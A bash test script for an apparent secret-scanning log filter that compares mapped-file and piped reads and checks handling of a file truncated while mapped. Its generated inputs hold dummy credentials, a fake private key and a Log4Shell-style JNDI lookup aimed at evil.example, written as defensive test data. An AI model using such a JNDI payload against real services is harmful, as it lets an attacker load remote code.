#!/usr/bin/env bash
# run-mapped.sh: a regular input file is read through a mapping (no read() copy;
# with threads its blocks are lent to the pool). The same bytes through a pipe
# take the read() path. Both must give the same output, quarantine entries
# (origin line numbers and offsets included) and counts, on one thread and on
# the pool, for inputs built to hit the block cuts: records longer than a block
# (in pieces), records between max_record and a block, private keys across block
# boundaries, CRLF, a last line without newline, secrets everywhere. Then a
# file truncated while mapped: the run stops with exit 3 and a clear error.
# SPDX-License-Identifier: Apache-2.0
set -u
bin=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
root=$(cd "$(dirname "$0")/.." && pwd)
. "$root/tests/timescale.sh"
tmp=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null; rm -rf "$tmp"' EXIT
pass=0 fail=0
check() { if eval "$2"; then pass=$((pass+1)); else fail=$((fail+1)); echo "mapped: FAIL: $1"; fi; }

# max_record 300000: blocks are 1 MiB, so records of 0.3-1 MiB stay in a block
# (the worker's stream fails them closed) and longer ones go out in pieces.
printf 'include: [%s]\nlimits: {max_record: 300000}\n' "$root/patterns/default.yaml" > "$tmp/cfg.yaml"
python3 - "$tmp" <<'PY'
import random, sys
tmp = sys.argv[1]
secrets = ["Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlX3NpZ25hdHVyZQ",
           "password=Tr0ub4dor&3xyzzy", "ghp_" + "A" * 36, "${jndi:ldap://evil.example/a}"]
pem = ["-----BEGIN RSA PRIVATE KEY-----"] + ["MIIEowIBAAKCAQEA" + "b" * 48] * 20 + ["-----END RSA PRIVATE KEY-----"]
for seed in range(4):
    r = random.Random(seed)
    out, size = [], 0
    while size < 5 * 1024 * 1024:
        k = r.random()
        if k < 0.01:
            line = "y" * r.choice([r.randint(300001, 1048570), r.randint(1048577, 2500000)])
        elif k < 0.02:
            line = "\n".join(pem)
        elif k < 0.1:
            line = "ts=%d msg=login %s" % (size, r.choice(secrets))
        else:
            line = "ts=%d level=info msg=%s" % (size, "z" * r.randint(0, 400))
        if r.random() < 0.05:
            line += "\r"
        out.append(line)
        size += len(line) + 1
    data = "\n".join(out) + ("" if seed % 2 else "\n")
    open("%s/in%d" % (tmp, seed), "w").write(data)
PY
# quarantine entries without their time and without the input's name
norm() { python3 -c 'import json,sys
for l in open(sys.argv[1]):
    d = json.loads(l); d.pop("time", None); d["origin"] = d["origin"].rsplit(":", 1)[-1]; print(json.dumps(d, sort_keys=True))' "$1"; }
for seed in 0 1 2 3; do
    for t in 1 2; do
        "$bin" -c "$tmp/cfg.yaml" --threads $t --stats --quarantine "$tmp/qf" "$tmp/in$seed" > "$tmp/of" 2> "$tmp/ef"; rcf=$?
        cat "$tmp/in$seed" | "$bin" -c "$tmp/cfg.yaml" --threads $t --stats --quarantine "$tmp/qp" > "$tmp/op" 2> "$tmp/ep"; rcp=$?
        check "input $seed, threads=$t: same exit status ($rcf, $rcp)" '[ $rcf = $rcp ] && [ $rcf -le 1 ]'
        check "input $seed, threads=$t: same output" 'cmp -s "$tmp/of" "$tmp/op"'
        check "input $seed, threads=$t: same counts" '[ "$(tail -1 "$tmp/ef")" = "$(tail -1 "$tmp/ep")" ]'
        check "input $seed, threads=$t: same quarantine entries" '[ -s "$tmp/qf" ] && [ "$(norm "$tmp/qf")" = "$(norm "$tmp/qp")" ]'
        rm -f "$tmp/qf" "$tmp/qp"
    done
done

# A file truncated while mapped: the reader blocks on a full pipe, the file
# shrinks to nothing, the reader resumes: SIGBUS is caught, exit 3, a clear error.
python3 -c 'import sys
sys.stdout.write("".join("line %d of clean filler text for the mapping test\n" % i for i in range(1000000)))' > "$tmp/big"
for t in 1 2; do
    cp "$tmp/big" "$tmp/shrink"
    { "$bin" -c "$root/patterns/default.yaml" --threads $t "$tmp/shrink"; echo $? > "$tmp/rc"; } 2> "$tmp/err" |
        { tsleep 1; : > "$tmp/shrink"; cat > /dev/null; }
    check "truncated while mapped (threads=$t): exit 3" '[ "$(cat "$tmp/rc")" = 3 ]'
    check "truncated while mapped (threads=$t): a clear error" 'grep -q "truncated while being read" "$tmp/err"'
done

echo "mapped: $pass passed, $fail failed"
[ $fail = 0 ]
